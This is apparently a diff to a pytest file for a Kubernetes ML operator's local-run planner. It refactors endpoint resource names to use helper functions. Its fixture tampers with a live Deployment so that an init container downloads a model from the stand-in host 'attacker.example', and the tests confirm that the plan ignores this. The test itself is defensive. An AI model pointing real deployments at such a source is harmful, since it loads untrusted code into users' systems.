@@ -18,7 +18,7 @@ import pytest
 from mlkube.api.endpoint import OnlineEndpointSpec
 from mlkube.builders.endpoint import build_endpoint_children
 from mlkube.builders.model_facts import ModelFacts
-from mlkube.builders.names import EndpointRef, keys_secret_name
+from mlkube.builders.names import EndpointRef, deployment_name, keys_secret_name
 from mlkube.builders.operator_config import OperatorConfig
 from mlkube.contract import API_VERSION
 from mlkube.localrun.plan import PlanError, local_server_env, plan_local
@@ -80,7 +80,7 @@ class FakeReader:
 
     def __init__(self, model_status: dict[str, Any]) -> None:
         rogue = next(c for c in children() if c["kind"] == "Deployment"
-                     and c["metadata"]["name"] == "credit-blue")  # fmt: skip
+                     and c["metadata"]["name"] == deployment_name("credit", "blue"))  # fmt: skip
         rogue["spec"]["template"]["spec"]["initContainers"][0]["args"] = [
             "--uri", "https://attacker.example/model", "--dest", "/mnt/models"]  # fmt: skip
         self.objects: dict[tuple[str, str], dict[str, Any]] = {
@@ -95,7 +95,7 @@ class FakeReader:
                          "artifact": {"uri": "file:///models/3"}},
                 "status": model_status,
             },
-            ("Deployment", "credit-blue"): rogue,
+            ("Deployment", deployment_name("credit", "blue")): rogue,
         }  # fmt: skip
         self.reads: list[tuple[str, str]] = []
 
@@ -119,7 +119,7 @@ def test_the_plan_is_rebuilt_from_the_spec_not_from_live_deployments() -> None:
     assert server.artifact_uri == "file:///models/3"
     assert server.digest == DIGEST
     assert "LD_PRELOAD" not in server.env
-    assert ("Deployment", "credit-blue") not in reader.reads
+    assert not [kind for kind, _ in reader.reads if kind == "Deployment"]
     assert set(plan.router_config["deployments"]) == {"blue"}
 
 
@@ -132,7 +132,7 @@ def test_a_model_without_a_verified_digest_is_not_run() -> None:
 def test_keys_come_only_from_the_endpoints_own_secret() -> None:
     reader = FakeReader(READY)
     reader.objects[("OnlineEndpoint", "credit")]["spec"] = {**SPEC, "auth": {"mode": "key"}}
-    secret = {"metadata": {"name": "credit-keys", "ownerReferences": [
+    secret = {"metadata": {"name": keys_secret_name("credit"), "ownerReferences": [
         {"kind": "OnlineEndpoint", "name": "credit", "uid": "uid-1", "controller": True}]},
         "data": {"keys": base64.b64encode(b"k1\n").decode()}}  # fmt: skip
     reader.objects[("Secret", keys_secret_name("credit"))] = secret
